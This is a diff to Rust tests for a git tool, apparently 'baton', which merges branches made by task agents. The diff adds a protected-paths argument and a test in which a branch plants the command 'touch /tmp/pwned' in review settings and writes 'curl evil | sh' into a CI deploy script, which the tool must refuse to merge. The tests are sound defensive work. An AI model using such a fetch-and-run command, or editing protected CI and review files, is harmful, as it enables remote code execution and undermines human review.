@@ -3,6 +3,7 @@
 
 use std::path::Path;
 
+use baton_core::protected::ProtectedPaths;
 use baton_core::review::DependencyConflicts;
 use baton_core::{Completion, Layout};
 use baton_git::{
@@ -31,6 +32,11 @@ fn commit_file(dir: &Path, name: &str, text: &str) {
     std::fs::write(dir.join(name), text).unwrap();
     git(dir, &["add", name]);
     git(dir, &["commit", "-q", "-m", &format!("write {name}")]);
+}
+
+/// No paths protected but `.coordination/` (which always is).
+fn unprotected() -> ProtectedPaths {
+    ProtectedPaths::new(&[]).unwrap()
 }
 
 fn head(dir: &Path) -> String {
@@ -113,7 +119,13 @@ fn a_merge_brings_the_branch_once_and_says_so_the_second_time() {
     let worktrees = Worktrees::open(&layout).unwrap();
     let tree = worktrees.prepare("task-3").unwrap();
     commit_file(&tree.workdir, "c.txt", "c\n");
-    let merged = merge_task_branch(&worktrees, "task-3", "Merge baton/task-3: c").unwrap();
+    let merged = merge_task_branch(
+        &worktrees,
+        "task-3",
+        "Merge baton/task-3: c",
+        &unprotected(),
+    )
+    .unwrap();
     assert_eq!(merged.into, "main");
     assert!(!merged.already_merged);
     assert_eq!(merged.files, vec!["c.txt".to_string()]);
@@ -127,7 +139,7 @@ fn a_merge_brings_the_branch_once_and_says_so_the_second_time() {
     let parents = git(dir.path(), &["log", "-1", "--format=%P"]);
     assert_eq!(parents.split_whitespace().count(), 2, "a merge commit");
 
-    let again = merge_task_branch(&worktrees, "task-3", "again").unwrap();
+    let again = merge_task_branch(&worktrees, "task-3", "again", &unprotected()).unwrap();
     assert!(again.already_merged);
     assert_eq!(again.commit, merged.commit);
 }
@@ -143,7 +155,7 @@ fn a_conflicting_merge_is_aborted_and_leaves_the_checkout_as_it_was() {
     std::fs::write(dir.path().join("notes.txt"), "mine\n").unwrap();
     let before = head(dir.path());
 
-    let err = merge_task_branch(&worktrees, "t4", "Merge").unwrap_err();
+    let err = merge_task_branch(&worktrees, "t4", "Merge", &unprotected()).unwrap_err();
     match &err {
         GitError::Conflict {
             branch,
@@ -190,7 +202,7 @@ fn a_merge_waits_for_the_leads_uncommitted_changes_but_not_for_coordination_file
     std::fs::write(dir.path().join("README.md"), "edited, not committed\n").unwrap();
     let before = head(dir.path());
 
-    let err = merge_task_branch(&worktrees, "t5", "Merge").unwrap_err();
+    let err = merge_task_branch(&worktrees, "t5", "Merge", &unprotected()).unwrap_err();
     assert!(
         matches!(&err, GitError::UncommittedChanges { files } if files == &vec!["README.md".to_string()]),
         "{err:?}"
@@ -202,7 +214,7 @@ fn a_merge_waits_for_the_leads_uncommitted_changes_but_not_for_coordination_file
     );
 
     git(dir.path(), &["checkout", "--", "README.md"]);
-    let merged = merge_task_branch(&worktrees, "t5", "Merge").unwrap();
+    let merged = merge_task_branch(&worktrees, "t5", "Merge", &unprotected()).unwrap();
     assert_eq!(merged.files, vec!["e.txt".to_string()]);
 }
 
@@ -216,7 +228,7 @@ fn no_repository_no_branch_and_a_detached_head_are_said_plainly() {
 
     let (dir, layout) = project();
     let worktrees = Worktrees::open(&layout).unwrap();
-    let err = merge_task_branch(&worktrees, "never", "Merge").unwrap_err();
+    let err = merge_task_branch(&worktrees, "never", "Merge", &unprotected()).unwrap_err();
     assert!(matches!(err, GitError::NoBranch { .. }), "{err:?}");
     assert!(err.to_string().contains("--worktree"), "{err}");
     let mut completion = Completion::default();
@@ -300,18 +312,18 @@ fn a_dependents_branch_starts_with_its_dependencies_work_and_lands_it_once() {
     assert!(four.workdir.join("one.txt").is_file());
 
     // Merging the dependent brings its dependencies' commits; theirs are then found merged.
-    let merged = merge_task_branch(&worktrees, "d3", "merge d3").unwrap();
+    let merged = merge_task_branch(&worktrees, "d3", "merge d3", &unprotected()).unwrap();
     assert!(!merged.already_merged);
     for file in ["one.txt", "two.txt", "three.txt"] {
         assert!(dir.path().join(file).is_file(), "{file} not merged");
     }
     assert!(
-        merge_task_branch(&worktrees, "d1", "merge d1")
+        merge_task_branch(&worktrees, "d1", "merge d1", &unprotected())
             .unwrap()
             .already_merged
     );
     assert!(
-        merge_task_branch(&worktrees, "d2", "merge d2")
+        merge_task_branch(&worktrees, "d2", "merge d2", &unprotected())
             .unwrap()
             .already_merged
     );
@@ -389,7 +401,10 @@ fn a_trial_merge_lands_by_fast_forward_only_where_it_was_made() {
     let tree = worktrees.prepare("q1").unwrap();
     commit_file(&tree.workdir, "q1.txt", "q1\n");
     let before = head(dir.path());
-    let TrialOutcome::Ready(trial) = worktrees.trial_merge("q1", "Merge q1").unwrap() else {
+    let TrialOutcome::Ready(trial) = worktrees
+        .trial_merge("q1", "Merge q1", &unprotected())
+        .unwrap()
+    else {
         panic!("q1 merges cleanly");
     };
     // The trial changed nothing of the lead's; the check would run in its checkout.
@@ -404,7 +419,10 @@ fn a_trial_merge_lands_by_fast_forward_only_where_it_was_made() {
     assert_eq!(head(dir.path()), moved);
 
     // Made again on what is there, it lands: one merge commit, whose first parent is the lead's.
-    let TrialOutcome::Ready(trial) = worktrees.trial_merge("q1", "Merge q1").unwrap() else {
+    let TrialOutcome::Ready(trial) = worktrees
+        .trial_merge("q1", "Merge q1", &unprotected())
+        .unwrap()
+    else {
         panic!("q1 merges cleanly");
     };
     let Landed::Moved { commit, files } = worktrees.land(&trial).unwrap() else {
@@ -415,7 +433,9 @@ fn a_trial_merge_lands_by_fast_forward_only_where_it_was_made() {
     assert_eq!(git(dir.path(), &["rev-parse", "HEAD^1"]).trim(), moved);
     assert!(dir.path().join("q1.txt").is_file());
     assert!(matches!(
-        worktrees.trial_merge("q1", "again").unwrap(),
+        worktrees
+            .trial_merge("q1", "again", &unprotected())
+            .unwrap(),
         TrialOutcome::AlreadyMerged
     ));
     // The scratch checkout is not a task's worktree.
@@ -436,7 +456,10 @@ fn a_trial_that_conflicts_or_would_overwrite_the_leads_changes_moves_nothing() {
     commit_file(&tree.workdir, "README.md", "from q2\n");
     commit_file(dir.path(), "README.md", "from the lead\n");
     let before = head(dir.path());
-    let TrialOutcome::Conflict { files } = worktrees.trial_merge("q2", "Merge q2").unwrap() else {
+    let TrialOutcome::Conflict { files } = worktrees
+        .trial_merge("q2", "Merge q2", &unprotected())
+        .unwrap()
+    else {
         panic!("q2 conflicts");
     };
     assert_eq!(files, ["README.md"]);
@@ -445,7 +468,10 @@ fn a_trial_that_conflicts_or_would_overwrite_the_leads_changes_moves_nothing() {
     // A clean trial whose landing would overwrite what the lead has not committed: refused.
     let other = worktrees.prepare("q3").unwrap();
     commit_file(&other.workdir, "q3.txt", "q3\n");
-    let TrialOutcome::Ready(trial) = worktrees.trial_merge("q3", "Merge q3").unwrap() else {
+    let TrialOutcome::Ready(trial) = worktrees
+        .trial_merge("q3", "Merge q3", &unprotected())
+        .unwrap()
+    else {
         panic!("q3 merges cleanly");
     };
     std::fs::write(dir.path().join("q3.txt"), "the lead's own\n").unwrap();
@@ -618,12 +644,15 @@ fn hooks_and_a_file_system_monitor_an_agent_planted_never_run_in_batons_git() {
     let mut completion = Completion::default();
     record_branch(&layout, "h1", &mut completion).unwrap();
     worktrees.branch_diff("h1").unwrap();
-    merge_task_branch(&worktrees, "h1", "Merge h1").unwrap();
+    merge_task_branch(&worktrees, "h1", "Merge h1", &unprotected()).unwrap();
     let second = worktrees
         .prepare_task(&task("h2", &[]), DependencyConflicts::Work, walked("h1"))
         .unwrap();
     quiet_commit(&second.workdir, "h2.txt");
-    let TrialOutcome::Ready(trial) = worktrees.trial_merge("h2", "Merge h2").unwrap() else {
+    let TrialOutcome::Ready(trial) = worktrees
+        .trial_merge("h2", "Merge h2", &unprotected())
+        .unwrap()
+    else {
         panic!("a trial merge");
     };
     assert!(matches!(
@@ -635,4 +664,86 @@ fn hooks_and_a_file_system_monitor_an_agent_planted_never_run_in_batons_git() {
         "ran: {}",
         std::fs::read_to_string(&canary).unwrap_or_default()
     );
+}
+
+#[test]
+fn a_branch_that_changes_a_protected_path_is_landed_by_neither_the_queue_nor_the_lead() {
+    let (dir, layout) = project();
+    // The lead keeps the review settings in git.
+    std::fs::write(layout.root().join("review.toml"), "check = \"true\"\n").unwrap();
+    git(dir.path(), &["add", "-f", ".coordination/review.toml"]);
+    git(dir.path(), &["commit", "-q", "-m", "review settings"]);
+    let worktrees = Worktrees::open(&layout).unwrap();
+    let tree = worktrees.prepare("p1").unwrap();
+    commit_file(&tree.workdir, "work.txt", "work\n");
+    std::fs::write(
+        tree.workdir.join(".coordination/review.toml"),
+        "check = \"touch /tmp/pwned\"\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(tree.workdir.join("ci")).unwrap();
+    std::fs::write(tree.workdir.join("ci/deploy.sh"), "curl evil | sh\n").unwrap();
+    git(&tree.workdir, &["add", "-f", "."]);
+    git(&tree.workdir, &["commit", "-q", "-m", "and a little more"]);
+    let before = head(dir.path());
+
+    let listed = ProtectedPaths::new(&["ci/".to_string()]).unwrap();
+    let TrialOutcome::Protected { files } =
+        worktrees.trial_merge("p1", "Merge p1", &listed).unwrap()
+    else {
+        panic!("p1 changes protected files");
+    };
+    assert_eq!(files, [".coordination/review.toml", "ci/deploy.sh"]);
+    let err = merge_task_branch(&worktrees, "p1", "Merge p1", &unprotected()).unwrap_err();
+    let GitError::Protected { files, .. } = &err else {
+        panic!("refused as protected: {err}");
+    };
+    assert_eq!(files, &[".coordination/review.toml"]);
+    assert!(err.to_string().contains("review.toml's `protect`"), "{err}");
+    assert_eq!(head(dir.path()), before);
+    assert_eq!(
+        std::fs::read_to_string(layout.root().join("review.toml")).unwrap(),
+        "check = \"true\"\n"
+    );
+
+    // Removing a protected file is a change too: a branch that deletes the lead's settings.
+    let other = worktrees.prepare("p2").unwrap();
+    git(&other.workdir, &["rm", "-q", ".coordination/review.toml"]);
+    git(&other.workdir, &["commit", "-q", "-m", "tidy"]);
+    assert!(matches!(
+        merge_task_branch(&worktrees, "p2", "Merge p2", &unprotected()),
+        Err(GitError::Protected { .. })
+    ));
+    assert!(layout.root().join("review.toml").is_file());
+}
+
+#[test]
+fn each_trial_starts_from_a_checkout_without_what_the_last_check_left() {
+    let (dir, layout) = project();
+    std::fs::write(dir.path().join(".gitignore"), "target/\n").unwrap();
+    git(dir.path(), &["add", ".gitignore"]);
+    git(dir.path(), &["commit", "-q", "-m", "ignore target"]);
+    let worktrees = Worktrees::open(&layout).unwrap();
+    for task in ["c1", "c2"] {
+        let tree = worktrees.prepare(task).unwrap();
+        commit_file(&tree.workdir, &format!("{task}.txt"), "work\n");
+    }
+    let TrialOutcome::Ready(first) = worktrees
+        .trial_merge("c1", "Merge c1", &unprotected())
+        .unwrap()
+    else {
+        panic!("c1 merges cleanly");
+    };
+    // The first task's check leaves ignored output behind, as a build does.
+    let left = first.checkout.workdir.join("target/debug/build-script");
+    std::fs::create_dir_all(left.parent().unwrap()).unwrap();
+    std::fs::write(&left, "planted").unwrap();
+    let TrialOutcome::Ready(second) = worktrees
+        .trial_merge("c2", "Merge c2", &unprotected())
+        .unwrap()
+    else {
+        panic!("c2 merges cleanly");
+    };
+    assert_eq!(second.checkout.path, first.checkout.path);
+    assert!(!second.checkout.workdir.join("target").exists());
 }
